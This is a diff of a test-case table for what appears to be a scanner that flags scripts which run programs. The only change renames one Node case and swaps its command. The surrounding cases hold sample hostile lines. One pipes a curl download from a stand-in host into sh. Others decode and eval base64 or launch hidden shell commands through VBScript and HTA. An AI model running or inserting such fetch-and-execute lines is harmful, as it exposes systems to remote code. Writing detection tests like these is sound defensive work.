@@ -96,7 +96,7 @@ CASES: tuple[Case, ...] = (
           f'Set s = CreateObject("{_SHELL}")\r\ns.Run "cmd /c start.bat", 0, False\r\nSet s = Nothing\r\n'),
     _case("js-decoded", "text in base64 is decoded and run", "index.js", "eval(atob('Y29uc29sZS5sb2coMSk='))\n", _RUNS),
     _case("js-node-fetch", "Node fetches something and runs it", "index.js", "require('child_process').exec('curl http://x.example/a | sh')\n", _RUNS),
-    _case("js-node", "Node starts a program", "index.mjs", "import { execSync } from 'node:child_process'\nexecSync('make all')\n", _RUNS, decision="review"),
+    _case("js-node", "Node starts a program that nobody knows", "index.mjs", "import { execSync } from 'node:child_process'\nexecSync('./prepare all')\n", _RUNS, decision="review"),
     _case("hta", "an application of HTML that starts a program", "readme.hta",
           f'<html><script language="VBScript">CreateObject("{_SHELL}").Run "calc"</script></html>', _RUNS),
     _case("hta-script", "an application of HTML with a script", "readme.hta", "<html><script>document.title = 1</script></html>", _RUNS, decision="review"),
